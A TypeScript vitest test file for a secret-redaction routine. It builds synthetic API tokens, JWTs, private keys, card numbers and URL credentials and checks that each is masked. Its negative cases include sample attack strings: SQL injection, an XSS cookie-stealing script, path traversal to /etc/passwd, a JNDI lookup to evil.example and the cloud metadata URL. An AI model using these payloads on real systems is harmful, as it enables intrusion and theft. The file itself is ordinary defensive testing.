import { describe, expect, it } from 'vitest';
import { secretValues } from './secret-values.js';
import { replaceSpans } from './span.js';

function redacted(text: string): string {
  return replaceSpans(text, secretValues(text), '#');
}

/** Written so that no scanner takes this file for a leak. */
function token(prefix: string, length: number, letters = 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7'): string {
  return prefix + letters.repeat(Math.ceil(length / letters.length)).slice(0, length);
}

const HEX = '0a1b2c3d4e5f6789';
const TOKENS = [
  token('AKIA', 16, 'ABCDEFGH23456789'),
  token('ASIA', 16, 'ABCDEFGH23456789'),
  token('ghp_', 36),
  token('gho_', 36),
  token('github_pat_', 60),
  token('glpat-', 20),
  token('xoxb-1234567890-', 24),
  token('xoxp-', 40),
  token('sk_live_', 24),
  token('rk_test_', 24),
  token('AIza', 35),
  token('ya29.', 60),
  token('npm_', 36),
  token('pypi-AgEIcHlwaS5vcmc', 60),
  token('sk-ant-', 60),
  token('sk-proj-', 60),
  token('hf_', 34),
  token('SG.', 22) + token('.', 43),
  token('shpat_', 32, HEX),
  token('dop_v1_', 64, HEX),
  token('key-', 32, HEX),
  token('123456789:', 35),
  token('hvs.', 40),
  token('whsec_', 32),
  'hooks.slack.com/services/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',
];
const JWT = [{ alg: 'HS256', typ: 'JWT' }, { sub: '1' }].map((part) =>
  Buffer.from(JSON.stringify(part)).toString('base64url'),
);
const SIGNED = [...JWT, token('', 43)].join('.');
const CARDS = ['4111111111111111', '5500 0000 0000 0004', '3782-822463-10005', '6011.1111.1111.1117', '4222222222222'];

describe('secretValues', () => {
  it('finds the tokens that issuers mark, and nothing around them', () => {
    for (const secret of TOKENS) expect(redacted(`say ${secret}, then`)).toBe('say #, then');
    for (const secret of TOKENS) expect(redacted(`{"a":"${secret}"}`)).toBe('{"a":"#"}');
  });

  it('finds the shortest of them, and those that hardly have letters', () => {
    for (const secret of [
      token('xapp-', 10),
      token('xoxb-', 10),
      token('sk_live_', 10),
      token('ya29.', 20, '.a'),
      token('whsec_', 16, '+=/'),
      token('ATBB', 20, '=-'),
      token('glc_', 20, '='),
      token('pscale_pw_', 20, '.='),
      token('sntrys_', 20, '=+/'),
    ]) {
      expect(redacted(secret)).toBe('#');
      expect(redacted(`say ${secret}`)).toBe('say #');
    }
  });

  it('finds JSON Web Tokens: signed, unsigned, encrypted, glued to something', () => {
    expect(redacted(`x ${SIGNED} y`)).toBe('x # y');
    expect(redacted(`(${JWT.join('.')}.)`)).toBe('(#)');
    expect(redacted(`${SIGNED}.aa.bb'--`)).toBe("#'--");
    expect(redacted(`_${SIGNED}`)).toBe('_#');
  });

  it('finds what follows an authentication scheme', () => {
    expect(redacted('Authorization: Bearer abc123def456 ok')).toBe('Authorization: Bearer # ok');
    expect(redacted('bearer+mF_9.B5f-4.1JqM')).toBe('bearer+#');
    expect(redacted(`Basic ${Buffer.from('user:open sesame').toString('base64')}`)).toBe('Basic #');
  });

  it('finds private keys, whole and cut', () => {
    const key = `-----BEGIN RSA PRIVATE KEY-----\n${token('MII', 64)}\n-----END RSA PRIVATE KEY-----`;
    expect(redacted(`a ${key} b`)).toBe('a # b');
    expect(redacted(`a ${key.slice(0, 60)}`)).toBe('a #');
    expect(redacted(`a ${key.replaceAll(' ', '+')} b`)).toBe('a # b');
  });

  it('finds card numbers in the groups that people write', () => {
    for (const card of CARDS) expect(redacted(`pay ${card} 12/27`)).toBe('pay # 12/27');
    expect(redacted('4111+1111+1111+1111')).toBe('#');
  });

  it('finds credentials in URLs', () => {
    expect(redacted('https://user:hunter2@host/a')).toBe('https://#@host/a');
    expect(redacted('postgres://me:p@ss@db:5432/x')).toBe('postgres://#@db:5432/x');
    expect(redacted('git clone https://abcdef@forge.example/x')).toBe('git clone https://#@forge.example/x');
    expect(redacted('//user:hunter2@host')).toBe('//#@host');
    expect(redacted('"https:\\/\\/user:hunter2@host\\/"')).toBe('"https:\\/\\/#@host\\/"');
  });

  it('leaves everything else readable', () => {
    for (const text of [
      "1' OR 1=1-- -",
      '<script>alert(document.cookie)</script>',
      '../../../../etc/passwd',
      'SELECT * FROM users WHERE id = 1234567890123456',
      `$\{jndi:ldap://evil.example/a}`,
      'http://169.254.169.254/latest/meta-data/',
      'mailto:someone@example.com',
      'https://example.com/@user/post',
      '// a: comment about b@c',
      'the bearer of good news, basic information, token ring',
      'Bearer certificates',
      'ask-me-anything-about-risk-and-task-management',
      'order 2024-01-15 4111 1111 1111 1112',
      '52.51627837465123, 13.37777777777777',
      '1700000000000',
      'd9b2d63d-a233-4123-847a-7090b0b1d2e4',
      'eyJ is how it begins',
      'eyJhbGciOiJIUzI1NiJ9',
      '-----BEGIN CERTIFICATE-----',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    ]) {
      expect(redacted(text)).toBe(text);
    }
  });
});
